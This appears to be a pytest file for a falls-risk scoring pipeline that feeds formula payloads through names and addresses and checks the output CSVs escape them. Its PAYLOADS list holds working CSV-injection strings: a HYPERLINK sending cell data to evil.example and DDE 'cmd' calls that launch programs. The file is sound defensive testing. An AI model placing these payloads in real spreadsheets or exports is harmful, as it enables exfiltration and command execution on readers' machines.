"""A monthly run on a hostile extract (issues 19.2 and 19.7): formula payloads in names and
addresses reach no person-facing CSV as formulas, and the run leaves nothing in the system
temporary folder."""

from __future__ import annotations

import csv
import shutil
import tempfile
from datetime import date

import pandas as pd
import pytest

from falls_risk.catalog import CLERICAL_REVIEW, RISK_LIST
from falls_risk.modelling.registered import RegisteredModel
from falls_risk.scoring import ScoringRequest, TierPolicy, run_scoring
from falls_risk.spreadsheet import is_formula_like

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile_run(world_dir, synthetic_model, tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    extract = base / "extract"
    shutil.copytree(world_dir / "extract", extract)
    population = pd.read_csv(extract / "population.csv", dtype=str, keep_default_na=False)
    rows = range(len(population))
    population["surname"] = [PAYLOADS[i % len(PAYLOADS)] + s for i, s in zip(rows, population["surname"], strict=True)]
    population["address_line"] = [PAYLOADS[(i + 1) % len(PAYLOADS)] + a
                                  for i, a in zip(rows, population["address_line"], strict=True)]
    population.to_csv(extract / "population.csv", index=False, lineterminator="\r\n")  # a lone CR is quoted

    system_tmp = base / "system-tmp"
    system_tmp.mkdir()
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setenv("TMPDIR", str(system_tmp))
    monkeypatch.setattr(tempfile, "tempdir", None)
    from falls_risk.linkage import pipeline

    during_link: list[str] = []
    real_connect = pipeline.connect

    def watching(**kwargs):  # what the system temp folder holds while linkage runs (a kill leaves it)
        con = real_connect(**kwargs)
        during_link.extend(p.name for p in system_tmp.iterdir())
        return con

    monkeypatch.setattr(pipeline, "connect", watching)
    try:
        loaded = RegisteredModel(model=synthetic_model, name="falls-risk", version="7", run_id="run-abc",
                                 uri="models:/falls-risk@champion")
        out = base / "runs" / "2025-12"
        run_scoring(ScoringRequest(extract, date(2025, 12, 1), out, TierPolicy(capacity=60), keep_work=True),
                    model=loaded, progress=False)
    finally:
        monkeypatch.undo()
    return {"out": out, "work": base / "runs" / ".work" / "2025-12", "system_tmp": system_tmp, "during_link": during_link,
            "population": population}


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_no_formula_reaches_the_risk_list(hostile_run):
    rows = _cells(RISK_LIST.path(hostile_run["out"]))
    assert len(rows) >= 60
    for row in rows:
        for column, value in row.items():
            assert not is_formula_like(value), (column, value)
        assert row["surname"].startswith("'") and row["address_line"].startswith("'")
    # Readable: each surname is the agency's value (as ingest trimmed it) after the quote, whole.
    assert {row["surname"][1:] for row in rows} <= set(hostile_run["population"]["surname"].str.strip())


def test_no_formula_reaches_the_clerical_review_file(hostile_run):
    path = CLERICAL_REVIEW.path(hostile_run["work"])
    rows = _cells(path)
    assert rows, "the run's linkage wrote no review pairs to check"
    for row in rows:
        for column, value in row.items():
            assert not is_formula_like(value), (column, value)
    assert any(row["record_surname"].startswith("'") or row["candidate_surname"].startswith("'") for row in rows)


def test_the_run_leaves_nothing_in_the_system_temp_folder(hostile_run):
    """Not after the run, and not while it links either (a kill then would leave the spill files)."""
    assert list(hostile_run["system_tmp"].iterdir()) == []
    assert hostile_run["during_link"] == []
